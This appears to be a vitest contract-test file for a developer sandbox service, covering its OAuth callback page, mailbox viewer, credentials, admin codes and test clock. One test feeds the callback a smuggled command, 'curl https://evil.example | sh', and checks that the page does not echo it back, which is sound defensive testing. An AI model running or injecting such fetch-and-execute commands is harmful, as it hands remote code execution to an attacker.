import { expect } from 'vitest'
import { contract, given } from '../harness/dsl/index.ts'
import {
  alice,
  asCredentials,
  asMachine,
  bob,
  demo,
  demoApp,
  demoPlatform,
  demoProject,
} from '../harness/fixtures/people.ts'
import type { Seeds } from '../harness/seeds/seeds.ts'

const firstMail = async (seeds: Seeds) => {
  await seeds.newcomer(alice)
  const mailbox = await seeds.call('service.listMail', {})
  const [mail] = (mailbox?.body as { messages: { id: string }[] } | undefined)?.messages ?? []
  return mail?.id ?? '0199c0de-0000-7000-8000-0000000000e1'
}

contract('service.showCallback', {
  'shows what a sign-in ended with, and how to go on': {
    send: { query: { code: 'kK7n0oYp1b9sQxXy3VfZrW2mT8uLhC4eDgJ6aBqRiNw', state: 'xyz' } },
    expect: {
      status: 200,
      example: 'page',
      answer: ({ text }) => {
        expect(text).toContain('<code>xyz</code>')
        expect(text).toContain('-d code=kK7n0oYp1b9sQxXy3VfZrW2mT8uLhC4eDgJ6aBqRiNw')
      },
    },
  },
  'shows a refusal': {
    send: { query: { error: 'access_denied', error_description: 'The person said no.' } },
    expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).toContain('The person said no.') },
  },
  'refuses what is longer than any answer to an app': {
    send: { query: { state: 'x'.repeat(4097) } },
    expect: { error: 'invalid_request', detail: 'state' },
  },
  'offers no command that somebody else wrote': {
    send: { query: { code: 'x; curl https://evil.example | sh' } },
    expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).not.toContain('curl -sS') },
  },
})

contract('service.showLanding', {
  'shows where to start': {
    expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).toContain(demo.clientId) },
  },
})

contract('service.getCredentials', {
  'gives the same fixed values every time': {
    expect: {
      status: 200,
      example: 'credentials',
      body: ({ account, app, platform, project, oauth }) => {
        expect(account).toMatchObject({ client_id: demo.clientId, origin: demo.origin, audience: demo.audience })
        expect(account.redirectUri).toBe(`${demo.publicUrl}/callback`)
        expect(app).toEqual(demoApp)
        expect(platform).toEqual(demoPlatform)
        expect(project).toEqual({ ...demoProject, redirectUri: account.redirectUri })
        expect(oauth).toEqual(asMachine)
      },
    },
  },
})

contract('service.listMail', {
  'lists the mails to one address, newest first': {
    given: async (seeds) => {
      await seeds.caller(alice)
      await seeds.caller(bob)
    },
    send: { query: { to: 'Alice@example.test' } },
    expect: {
      status: 200,
      example: 'mailbox',
      body: ({ messages }) => expect(messages.map(({ to }) => to)).toEqual([alice.email]),
    },
  },
})

const toBrowser = { accept: 'text/html' }

contract('service.showMailbox', {
  'shows the mails': given(firstMail, {
    send: (id) => ({ query: { to: alice.email, id, view: 'text' } }),
    expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).toContain(alice.email) },
  }),
  'refuses a view that there is not': {
    send: { query: { view: 'x' as never } },
    expect: { error: 'invalid_request', detail: 'view' },
  },
  'shows the refusal to a browser': {
    send: { query: { view: 'x' as never }, headers: toBrowser },
    expect: { status: 400, example: 'refusal_page' },
  },
})

contract('service.showMail', {
  'shows one mail as its reader would see it': given(firstMail, {
    send: (id) => ({ path: { mail_id: id } }),
    expect: {
      status: 200,
      example: 'page',
      answer: ({ headers, text }) => {
        expect(headers.get('content-security-policy')).toContain('sandbox')
        expect(text).toContain('/auth/verify?token=')
      },
    },
  }),
  'refuses a mail that is not there': {
    send: { path: { mail_id: '0199c0de-0000-7000-8000-00000000dead' } },
    expect: { error: 'mail_not_found' },
  },
  'says so to a browser on a page': {
    send: { path: { mail_id: '0199c0de-0000-7000-8000-00000000dead' }, headers: toBrowser },
    expect: { status: 404, example: 'refusal_page' },
  },
  'refuses to a browser, on a page, what is no id': {
    send: { path: { mail_id: 'x' }, headers: toBrowser },
    expect: { status: 400, example: 'refusal_page' },
  },
})

contract('service.resetSandbox', {
  'removes everyone and puts back the clock': {
    given: async (seeds) => {
      await seeds.caller(alice)
      await seeds.wait(3600)
    },
    expect: { status: 200, example: 'reset' },
    then: async (seeds) => {
      expect((await seeds.call('account.signIn', { body: asCredentials(alice) }))?.status).toBe(401)
      expect((await seeds.call('service.moveClock', { body: { advance: 1 } }))?.body).toMatchObject({ offset: 1 })
      expect((await seeds.call('service.listMail', {}))?.body).toEqual({ messages: [] })
    },
  },
})

contract('service.createAdminCode', {
  'gives a code that makes an administrator of the project': {
    expect: { status: 200, example: 'admin_code' },
    then: async (seeds, answer) => {
      const another = await seeds.call('service.createAdminCode', {})
      for (const { body } of [answer, another!]) {
        const exchanged = await seeds.call('project.exchangeAdminSession', { body: body as { code: string } })
        expect(exchanged?.status).toBe(200)
      }
    },
  },
})

contract('service.getClock', {
  'tells the time that everything goes by': given((seeds) => seeds.wait(3600), {
    expect: {
      status: 200,
      example: 'clock',
      body: ({ now, offset }) => {
        expect(offset).toBe(3600)
        expect(Date.parse(now) - Date.now()).toBeGreaterThan(3_590_000)
      },
    },
  }),
})

contract('service.moveClock', {
  'moves the clock forward': {
    send: { body: { advance: 3600 } },
    expect: { status: 200, example: 'clock', body: ({ offset }) => expect(offset).toBe(3600) },
  },
  'refuses to go back': {
    send: { body: { advance: -1 } },
    expect: { error: 'invalid_request', detail: 'advance: must be at least 1' },
  },
})
